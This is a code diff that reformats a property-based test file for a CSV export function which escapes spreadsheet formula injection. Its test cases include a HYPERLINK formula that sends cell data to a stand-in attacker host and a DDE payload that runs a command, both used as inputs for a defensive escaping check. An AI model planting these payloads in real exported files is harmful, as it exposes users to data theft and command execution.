@@ -5,12 +5,20 @@ import { csvText, unescapeFormula } from './csv-output.util.js';
 
 const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;
 /** Text that begins like a formula now and then. */
-const cell = fc.tuple(fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', "'", 'a', '1'), fc.string()).map(([a, b]) => a + b);
+const cell = fc
+  .tuple(
+    fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', "'", 'a', '1'),
+    fc.string(),
+  )
+  .map(([a, b]) => a + b);
 
 describe('csvText', () => {
   it.each([
-    ['=HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez")', `"'=HYPERLINK(""http://attacker.example/?d=""&C2&D2,""Cliquez"")"`],
-    ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
+    [
+      '=HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez")',
+      `"'=HYPERLINK(""http://attacker.example/?d=""&C2&D2,""Cliquez"")"`,
+    ],
+    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
     ['-2+3', `'-2+3`],
     ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
     ['\t=1+1', `'\t=1+1`],
@@ -22,16 +30,23 @@ describe('csvText', () => {
     expect(csvText([[value]], ',')).toBe(`${written}\n`);
   });
 
-  it.each(['+15145550199', '-12.50', '-12,5', '+1', '42'])('leaves the plain number %j as it is (a spreadsheet reads it as a number, never a formula)', (value) => {
-    expect(csvText([[value]], ';')).toBe(`${value}\n`);
-  });
+  it.each(['+15145550199', '-12.50', '-12,5', '+1', '42'])(
+    'leaves the plain number %j as it is (a spreadsheet reads it as a number, never a formula)',
+    (value) => {
+      expect(csvText([[value]], ';')).toBe(`${value}\n`);
+    },
+  );
 
   it("writes every other cell exactly as csv-stringify's escape_formulas does", () => {
     fc.assert(
-      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), fc.constantFrom(',', ';', '\t'), (rows, delimiter) => {
-        fc.pre(rows.every((row) => row.every((value) => !PLAIN_NUMBER.test(value))));
-        expect(csvText(rows, delimiter)).toBe(stringify(rows, { delimiter, escape_formulas: true }));
-      }),
+      fc.property(
+        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
+        fc.constantFrom(',', ';', '\t'),
+        (rows, delimiter) => {
+          fc.pre(rows.every((row) => row.every((value) => !PLAIN_NUMBER.test(value))));
+          expect(csvText(rows, delimiter)).toBe(stringify(rows, { delimiter, escape_formulas: true }));
+        },
+      ),
       { numRuns: 500 },
     );
   });
